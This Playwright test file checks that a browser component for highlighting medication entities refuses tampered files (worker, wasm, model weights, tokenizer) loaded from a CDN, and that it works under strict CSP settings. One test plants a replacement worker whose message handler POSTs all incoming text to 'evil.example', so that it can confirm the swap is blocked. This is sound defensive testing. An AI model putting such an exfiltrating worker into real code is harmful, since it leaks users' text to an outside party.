/**
 * Integrity (docs/integrity.md): the drop-in folder on a CDN origin, served by the plain
 * static server, with one file changed on disk at a time. Each change is refused with the file
 * named and both hashes, before any text reaches the worker; the unchanged folder highlights the
 * README sentence, and a repaired file is picked up on the next load.
 */
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { README_SENTENCE, expectReadmeHighlights, watchEvents } from './helpers.ts';
import { plainPage, site } from './consumers/fixtures.ts';
import { serveStatic, type StaticServer } from './consumers/static-server.ts';

test.describe.configure({ mode: 'serial', timeout: 180_000 });

declare global {
  interface Window {
    /** The type of every message the page posted to a worker. */
    __posted: string[];
  }
}

const servers: StaticServer[] = [];
test.afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

interface Setup {
  /** The drop-in folder's copy on disk, served by the CDN. */
  dropin: string;
  page: Page;
  url: string;
}

/**
 * A page on one origin that loads the drop-in folder from another (CORS, cross-origin isolated),
 * as a page that pins the script with SRI would; `attributes` go on the element.
 */
async function cdnSetup(page: Page, name: string, attributes = ''): Promise<Setup> {
  const cdnRoot = site(`integrity-${name}-cdn`, undefined, 'med7-ner');
  const cdn = await serveStatic(cdnRoot, { cors: true, isolate: true });
  servers.push(cdn);
  const html = plainPage(`${cdn.url}med7-ner/med7-ner.js`, attributes);
  const server = await serveStatic(site(`integrity-${name}-page`, html), { isolate: true });
  servers.push(server);
  await recordPosts(page);
  await watchEvents(page);
  return { dropin: join(cdnRoot, 'med7-ner'), page, url: server.url };
}

/** Records the type of each message posted to a worker: `extract` carries the text. */
async function recordPosts(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__posted = [];
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (this: Worker, message: unknown, ...rest: never[]) {
      window.__posted.push(String((message as { type?: unknown } | null)?.type));
      return post.call(this, message, ...rest);
    } as typeof Worker.prototype.postMessage;
  });
}

/** The load failed closed: `file` named with both hashes, no text sent, no highlight. */
async function expectRefused(page: Page, file: string): Promise<string> {
  const alert = page.locator('med7-ner').getByRole('alert');
  await expect(alert).toContainText('Integrity check failed', { timeout: 90_000 });
  const message = (await alert.textContent()) ?? '';
  expect(message).toContain(file);
  expect(message).toMatch(/expected sha384-[\w+/]+=*, got sha384-[\w+/]+=*/);
  const errors = await page.evaluate(() => window.__med7.errors.map((error) => error.message));
  expect(errors.some((error) => error.includes(file) && error.includes('expected sha384-'))).toBe(
    true,
  );
  expect(await page.evaluate(() => window.__posted)).not.toContain('extract');
  await expect(page.locator('med7-ner [part="text"]')).toHaveText(README_SENTENCE);
  await expect(page.locator('med7-ner mark')).toHaveCount(0);
  return message;
}

/** Changes one byte in the middle of `path` (returns the original bytes). */
function flipByte(path: string): Buffer {
  const original = readFileSync(path);
  const changed = Buffer.from(original);
  const at = changed.length >> 1;
  changed[at] = changed[at]! ^ 0x01;
  writeFileSync(path, changed);
  return original;
}

test('the unchanged folder on a CDN loads, every file checked, and highlights the README sentence', async ({
  page,
}) => {
  const setup = await cdnSetup(page, 'unchanged');
  await page.goto(setup.url);
  await expectReadmeHighlights(page);
  expect(await page.evaluate(() => window.__med7.errors)).toEqual([]);
});

test('a swapped worker is refused before it starts', async ({ page }) => {
  const setup = await cdnSetup(page, 'worker');
  writeFileSync(
    join(setup.dropin, 'med7-ner.worker.js'),
    'self.onmessage = (event) => fetch("https://evil.example/", { method: "POST", body: JSON.stringify(event.data) });\n',
  );
  await page.goto(setup.url);
  await expectRefused(page, 'med7-ner.worker.js');
  expect(await page.evaluate(() => window.__posted)).toEqual([]);
});

test('a swapped wasm is refused before onnxruntime-web runs it', async ({ page }) => {
  const setup = await cdnSetup(page, 'wasm');
  // Another genuine onnxruntime-web wasm: valid, but not the bytes the element was built with.
  cpSync(
    join(setup.dropin, 'ort', 'ort-wasm-simd-threaded.asyncify.wasm'),
    join(setup.dropin, 'ort', 'ort-wasm-simd-threaded.wasm'),
  );
  await page.goto(setup.url);
  await expectRefused(page, 'ort/ort-wasm-simd-threaded.wasm');
});

test('one byte changed in the model is refused, and the repaired file is used on the next load', async ({
  page,
}) => {
  const setup = await cdnSetup(page, 'model');
  const weights = join(setup.dropin, 'models', 'med7-compact', 'onnx', 'model_int8.onnx');
  const original = flipByte(weights);
  await page.goto(setup.url);
  await expectRefused(page, 'onnx/model_int8.onnx');
  writeFileSync(weights, original);
  await page.reload();
  await expectReadmeHighlights(page);
  expect(await page.evaluate(() => window.__med7.errors)).toEqual([]);
});

test('a swapped tokenizer is refused', async ({ page }) => {
  const setup = await cdnSetup(page, 'tokenizer');
  const path = join(setup.dropin, 'models', 'med7-compact', 'tokenizer.json');
  // Valid JSON, same vocabulary, two ids swapped: the model would read the wrong words.
  const tokenizer = JSON.parse(readFileSync(path, 'utf8')) as {
    model: { vocab: Record<string, number> };
  };
  const vocab = tokenizer.model.vocab;
  [vocab['mg'], vocab['tablet']] = [vocab['tablet']!, vocab['mg']!];
  writeFileSync(path, JSON.stringify(tokenizer));
  await page.goto(setup.url);
  await expectRefused(page, 'tokenizer.json');
});

test('from the page origin too: a changed worker is refused, by default and with a strict CSP', async ({
  page,
}) => {
  const root = site('integrity-same-origin', plainPage('/med7-ner/med7-ner.js'), 'med7-ner');
  flipByte(join(root, 'med7-ner', 'med7-ner.worker.js'));
  const server = await serveStatic(root, {
    isolate: true,
    csp: "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'",
  });
  servers.push(server);
  await recordPosts(page);
  await watchEvents(page);
  await page.goto(server.url);
  await expectRefused(page, 'med7-ner.worker.js');
});

test('integrity="required" from the page origin: the worker runs from its checked bytes under the documented CSP', async ({
  page,
}) => {
  const root = site(
    'integrity-same-origin-required',
    plainPage('/med7-ner/med7-ner.js', ' integrity="required"'),
    'med7-ner',
  );
  const server = await serveStatic(root, {
    isolate: true,
    csp: "default-src 'none'; script-src 'self' blob: 'wasm-unsafe-eval'; worker-src 'self' blob:; connect-src 'self'",
  });
  servers.push(server);
  const workers: string[] = [];
  page.on('worker', (worker) => workers.push(worker.url()));
  await recordPosts(page);
  await watchEvents(page);
  await page.goto(server.url);
  await expectReadmeHighlights(page);
  expect(workers[0]).toMatch(/^blob:/);
  expect(await page.evaluate(() => window.__med7.errors)).toEqual([]);
});

test('integrity="required": a model folder without med7-manifest.json is refused; with one it loads checked', async ({
  page,
}) => {
  const setup = await cdnSetup(page, 'required', ' integrity="required" model="MODEL"');
  // The page's own copy of the model (with the manifest the build writes), then without it.
  const pageRoot = join(setup.dropin, '..', '..', 'integrity-required-page');
  cpSync(join(setup.dropin, 'models', 'med7-compact'), join(pageRoot, 'mine', 'med7-compact'), {
    recursive: true,
  });
  const index = join(pageRoot, 'index.html');
  writeFileSync(index, readFileSync(index, 'utf8').replace('MODEL', '/mine/med7-compact/'));
  await page.goto(setup.url);
  await expectReadmeHighlights(page);

  rmSync(join(pageRoot, 'mine', 'med7-compact', 'med7-manifest.json'));
  await page.reload();
  const alert = page.locator('med7-ner').getByRole('alert');
  await expect(alert).toContainText('med7-manifest.json', { timeout: 90_000 });
  await expect(alert).toContainText('integrity="required"');
  expect(await page.evaluate(() => window.__posted)).not.toContain('extract');
  await expect(page.locator('med7-ner mark')).toHaveCount(0);
});
